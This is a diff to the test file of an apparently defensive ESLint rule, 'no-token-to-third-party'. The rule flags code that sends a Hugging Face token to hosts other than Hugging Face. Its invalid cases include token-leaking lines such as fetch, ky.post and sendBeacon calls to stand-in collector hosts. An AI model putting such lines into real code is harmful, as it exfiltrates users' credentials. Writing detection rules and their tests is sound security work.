@@ -29,6 +29,12 @@ ruleTester.run("no-token-to-third-party", rule, {
     `fetch(\`\${base}/v1/models\`, { headers: { Authorization: ${BEARER} } });`,
     `fetch("https://api." + domain + "/x", { headers: { Authorization: ${BEARER} } });`,
     `fetch("/api/proxy", { headers: { Authorization: ${BEARER} } });`,
+    // An SDK client aimed at Hugging Face, or given no token.
+    `const hf = new OpenAI({ apiKey: process.env.HF_TOKEN, baseURL: "https://router.huggingface.co/v1" });`,
+    `const other = new OpenAI({ apiKey: process.env.OPENAI_API_KEY, baseURL: "https://api.openai.com/v1" });`,
+    `const chat = new ChatOpenAI({ apiKey: process.env.HF_TOKEN, configuration: { baseURL: "https://router.huggingface.co/v1" } });`,
+    // A base URL written elsewhere that is Hugging Face's.
+    `const BASE = "https://huggingface.co/api"; fetch(\`\${BASE}/whoami-v2\`, { headers: { Authorization: ${BEARER} } });`,
     // Another host, but no token sent.
     `fetch("https://api.example.com/data", { headers: { Authorization: \`Bearer \${process.env.EXAMPLE_TOKEN}\` } });`,
     `fetch("https://api.example.com/data", { headers: { "X-Has-Token": String(Boolean(process.env.HF_TOKEN)) } });`,
@@ -42,6 +48,45 @@ ruleTester.run("no-token-to-third-party", rule, {
     },
   ],
   invalid: [
+    // SDK clients created with the token and an endpoint elsewhere (src/catalogue/requests.ts client options).
+    {
+      code: `const client = new OpenAI({ apiKey: process.env.HF_TOKEN, baseURL: "https://api.together.xyz/v1" });`,
+      errors: [sent("new OpenAI", "api.together.xyz")],
+    },
+    {
+      code: `const groq = createOpenAI({ baseURL: "https://api.groq.com/openai/v1", headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("createOpenAI", "api.groq.com")],
+    },
+    {
+      code: `const chat = new ChatOpenAI({ apiKey: process.env.HF_TOKEN, configuration: { baseURL: "https://openrouter.ai/api/v1" } });`,
+      errors: [sent("new ChatOpenAI", "openrouter.ai")],
+    },
+    {
+      code: `const { HF_TOKEN } = process.env;\nconst ollama = new Ollama({ host: "http://gpu-box.example.net:11434", headers: { Authorization: \`Bearer \${HF_TOKEN}\` } });`,
+      errors: [sent("new Ollama", "gpu-box.example.net")],
+    },
+    // URLs written in a const, a template starting with one, or a URL's base.
+    {
+      code: `const API = "https://collector.example.net/v1";\nfetch(API, { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("fetch", "collector.example.net")],
+    },
+    {
+      code: `const BASE = "https://collector.example.net";\nfetch(\`\${BASE}/ingest\`, { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("fetch", "collector.example.net")],
+    },
+    {
+      code: `fetch(new URL("/ingest", "https://collector.example.net"), { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("fetch", "collector.example.net")],
+    },
+    // Clients from the catalogue.
+    {
+      code: `ky.post("https://collector.example.net", { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("ky.post", "collector.example.net")],
+    },
+    {
+      code: `needle.post("https://collector.example.net", {}, { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("needle.post", "collector.example.net")],
+    },
     { code: `navigator.sendBeacon("https://collect.example.com/t", process.env.HF_TOKEN);`, errors: [sent("navigator.sendBeacon", "collect.example.com")] },
     { code: `https.request("https://api.example.com/v1", { headers: { Authorization: ${BEARER} } });`, errors: [sent("https.request", "api.example.com")] },
     { code: `http.get("http://api.example.com/v1", { headers: { authorization: process.env.HF_TOKEN } });`, errors: [sent("http.get", "api.example.com")] },
